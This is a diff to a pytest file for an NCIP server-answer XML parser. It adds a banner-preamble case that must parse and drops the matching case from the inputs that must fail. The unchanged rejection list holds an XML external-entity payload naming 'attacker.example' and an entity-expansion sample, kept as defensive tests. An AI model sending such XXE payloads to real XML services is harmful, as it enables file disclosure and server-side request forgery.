@@ -95,6 +95,7 @@ def wrapped(body: bytes) -> dict[str, bytes]:
         "blank-lines": b"\r\n\r\n  \n" + body,
         "http-preamble": b"HTTP/1.0 200 OK\r\nContent-Type: text/xml\r\nContent-Length: 999\r\n\r\n" + body,
         "blank-then-http": b"\r\nHTTP/1.1 200 OK\nServer: ALEPH\n\n" + body,
+        "banner": b"ALEPH NCIP server\r\n" + body,  # kept from <NCIPMessage on, as ALEPH's clients keep it
         "trailing-nul": body + b"\n\x00",
         "utf-16": codecs.BOM_UTF16_LE + body.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
                                                       .encode("utf-16-le"),
@@ -184,9 +185,8 @@ def test_a_latin1_answer_that_does_not_say_so_is_read(head):
     b'<!DOCTYPE x [<!ENTITY e "boom">]><NCIPMessage>&e;</NCIPMessage>',
     b'<!DOCTYPE NCIPMessage SYSTEM "http://attacker.example/x.dtd" [<!ENTITY % p SYSTEM "http://x">%p;]>'
     b"<NCIPMessage/>",
-    b"Some banner\r\nmore text\r\n<NCIPMessage/>",
     b"",
-], ids=["html", "text", "internal-entity", "external-parameter-entity", "non-http-preamble", "empty"])
+], ids=["html", "text", "internal-entity", "external-parameter-entity", "empty"])
 def test_anything_else_is_unreadable_with_an_excerpt(body):
     with pytest.raises(UnreadableAnswer) as raised:
         answers.read(body)
